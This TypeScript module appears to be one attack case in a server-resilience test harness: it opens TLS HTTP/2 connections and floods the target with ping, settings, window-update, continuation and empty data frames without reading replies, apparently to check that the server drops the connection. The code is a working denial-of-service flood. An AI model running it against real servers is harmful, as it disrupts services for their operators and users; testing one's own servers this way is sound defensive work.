import { connect } from 'node:tls'
import { type Attack, expectEnd } from '../attack.ts'

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

const [data, headers, settings, ping, windowUpdate, continuation] = [0, 1, 4, 6, 8, 9] as const
const window = Buffer.from([0, 0, 0, 1])

/** Each flood is one kind of frame, of which none asks for anything. */
const floods: readonly Buffer[] = [
  frame(ping, 0, 0, Buffer.alloc(8)),
  frame(settings, 0, 0, Buffer.alloc(0)),
  frame(windowUpdate, 0, 0, window),
  frame(continuation, 0, 1, Buffer.alloc(100)),
  frame(data, 0, 1, Buffer.alloc(0)),
]

/** Floods of control frames over HTTP/2, of which the answers are not read. */
export const attack: Attack = {
  name: 'HTTP/2 frames',
  async round(target) {
    const { host, port, pause } = target
    for (const flood of floods) {
      const socket = connect({ host, port, rejectUnauthorized: false, ALPNProtocols: ['h2'] })
      socket.on('error', () => undefined)
      await new Promise((resolve) => socket.once('secureConnect', resolve).once('close', resolve))
      expectEnd(target, socket)
      socket.pause()
      socket.write(`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`)
      socket.write(frame(settings, 0, 0, Buffer.alloc(0)))
      // A head that does not end, so that continuations have something to continue.
      if (flood[3] === continuation) socket.write(frame(headers, 0, 1, Buffer.of(0x82)))
      const many = Buffer.concat(Array.from({ length: 200 }, () => flood))
      for (let at = 0; at < 20 && !socket.destroyed; at++) {
        socket.write(many)
        await pause(20)
      }
      socket.resume()
      await pause(200)
      socket.destroy()
    }
  },
}
